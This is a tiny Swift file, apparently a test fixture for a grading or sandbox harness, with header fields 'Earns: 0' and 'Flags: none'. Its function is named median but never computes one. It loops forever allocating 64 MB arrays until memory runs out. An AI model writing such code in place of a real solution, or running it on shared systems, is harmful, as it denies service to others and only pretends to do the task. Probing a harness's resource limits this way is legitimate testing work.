// Takes all the memory that there is.
//
// Earns: 0
// Flags: none
// swift-format-ignore-file

func median(_ values: [Double?]) -> Double? {
  var kept: [[UInt8]] = []
  while true { kept.append([UInt8](repeating: 1, count: 64 << 20)) }
}
